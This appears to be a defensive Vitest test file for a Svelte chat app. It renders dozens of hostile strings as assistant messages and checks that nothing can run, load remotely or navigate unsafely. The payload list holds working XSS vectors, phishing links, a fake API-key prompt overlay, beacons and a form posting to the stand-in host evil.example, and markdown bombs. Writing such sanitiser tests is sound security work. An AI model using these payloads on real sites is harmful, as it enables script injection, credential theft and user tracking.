// Model output is untrusted. Each payload below (XSS, phishing, resource beacons, CSS tricks,
// pathological markdown) is rendered through the real message area as an assistant answer and
// the resulting DOM is checked: nothing can run, nothing remote can load, no link can lead
// anywhere but the web or mail (and only on a click, in the system browser).
import { describe, it, expect, vi, afterEach } from "vitest";
import { render, cleanup, fireEvent } from "@testing-library/svelte";
import MessageArea from "./MessageArea.svelte";
import type { Message } from "../api/chat";

const app = vi.hoisted(() => ({ openLink: vi.fn(() => Promise.resolve()) }));
vi.mock("../api/app", () => app);

const PAYLOADS: string[] = [
  "<script>window.__pwned = 1</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  '<img src=x onerror="window.__pwned=1">',
  '<img src="https://evil.example/beacon.png">',
  "![beacon](https://evil.example/pixel.gif)",
  "![beacon](//evil.example/pixel.gif)",
  '<svg onload="window.__pwned=1"></svg>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text>x</text></a></svg>',
  '<svg><image href="https://evil.example/i.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
  '<a href="javascript:window.__pwned=1">click</a>',
  "[click](javascript:window.__pwned=1)",
  "[click](JaVaScRiPt:window.__pwned=1)",
  "[click](&#106;avascript:window.__pwned=1)",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox)",
  "[open file](file:///etc/passwd)",
  "[app](tauri://localhost/index.html)",
  '<a href="https://evil.example/login" >https://bank.example/login</a>',
  "[https://bank.example](https://evil.example/phish)",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=p><button>Log in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>body{background:url(https://evil.example/bg.png)}</style>",
  '<div style="background:url(https://evil.example/bg.png)">styled</div>',
  '<div style="position:fixed;inset:0;z-index:9999;background:white">Your session expired. Paste your API key:</div>',
  '<p onclick="window.__pwned=1" onmouseover="window.__pwned=1">hover</p>',
  '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<body onload="window.__pwned=1">',
  '<input autofocus onfocus="window.__pwned=1">',
  '<a href="https://example.com" target="_top" ping="https://evil.example/ping">ping</a>',
  '<img srcset="https://evil.example/a.png 1x">',
  "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
  '<template><script>window.__pwned=1</script></template>',
  "```html\n<script>window.__pwned=1</script>\n```",
  "`<img src=x onerror=window.__pwned=1>`",
  '<a href="https://example.com" style="display:block;width:100vw;height:100vh">overlay</a>',
  "> ".repeat(400) + "deeply quoted",
  "- ".repeat(300) + "deeply listed",
  "*".repeat(20000),
  "[a](".repeat(2000) + "x",
  "| a ".repeat(500) + "|\n" + "|---".repeat(500) + "|\n" + "| 1 ".repeat(500) + "|",
  "x".repeat(200000),
];

function message(content: string, id = 1): Message {
  return {
    id, conversation_id: 1, role: "assistant", content, provider: "openai", model: "gpt-4o-mini", failover_reason: null, prompt_tokens: null,
    completion_tokens: null, first_token_ms: null, total_ms: null, status: "complete", error: null, created_at: 0, parts: [],
  };
}

/** Everything in the rendered answer that could run code, load a resource or navigate. */
function dangers(root: Element): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (["script", "iframe", "object", "embed", "form", "input", "meta", "base", "link", "style", "video", "audio", "template", "frame", "frameset"].includes(tag)) found.push(`<${tag}>`);
    for (const attr of el.getAttributeNames()) {
      const value = el.getAttribute(attr) ?? "";
      if (attr.startsWith("on")) found.push(`${tag}[${attr}]`);
      if (attr === "style") found.push(`${tag}[style]`);
      if (["src", "srcset", "ping", "xlink:href", "action", "formaction", "poster", "background", "data"].includes(attr) && !value.startsWith("data:image/")) found.push(`${tag}[${attr}=${value}]`);
      if (attr === "href" && !/^(https?:|mailto:|#)/i.test(value)) found.push(`${tag}[href=${value}]`);
    }
    if (tag === "a" && el.getAttribute("href") && el.getAttribute("target") === "_top") found.push("a[target=_top]");
  }
  return found;
}

afterEach(() => {
  cleanup();
  expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
});

describe("hostile model output", () => {
  it(`has at least 40 payloads (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });

  for (const [i, p] of PAYLOADS.entries()) {
    it(`payload ${i + 1}: ${p.slice(0, 60).replace(/\n/g, "⏎")}`, () => {
      const { container } = render(MessageArea, { messages: [message(p)] });
      const answer = container.querySelector('[data-testid="message"][data-role="assistant"]');
      expect(answer).not.toBeNull();
      expect(dangers(answer!)).toEqual([]);
      expect(answer!.innerHTML).not.toMatch(/evil\.example\/(?!phish|login)/);
    });
  }

  it("a phishing link shows its real address and opens only on a click, in the system browser", async () => {
    const { container } = render(MessageArea, { messages: [message("[https://bank.example](https://evil.example/phish) and [x](javascript:alert(1))")] });
    const links = container.querySelectorAll('[data-testid="message"] a');
    expect(links[0].getAttribute("title")).toBe("https://evil.example/phish");
    expect(app.openLink).not.toHaveBeenCalled();
    await fireEvent.click(links[0]);
    expect(app.openLink).toHaveBeenCalledWith("https://evil.example/phish");
    app.openLink.mockClear();
    const dead = [...links].find((a) => a.textContent === "x");
    if (dead) await fireEvent.click(dead);
    expect(app.openLink).not.toHaveBeenCalled();
  });

  it("pathological markdown renders in bounded size, so the window stays usable", () => {
    const big = PAYLOADS.slice(-6).join("\n\n");
    const { container } = render(MessageArea, { messages: [message(big)] });
    const answer = container.querySelector('[data-testid="message"]')!;
    // The text is shown (not dropped), and nesting is not amplified into an enormous tree.
    expect(answer.textContent!.length).toBeGreaterThan(200000);
    expect(answer.querySelectorAll("*").length).toBeLessThan(20000);
  });
});
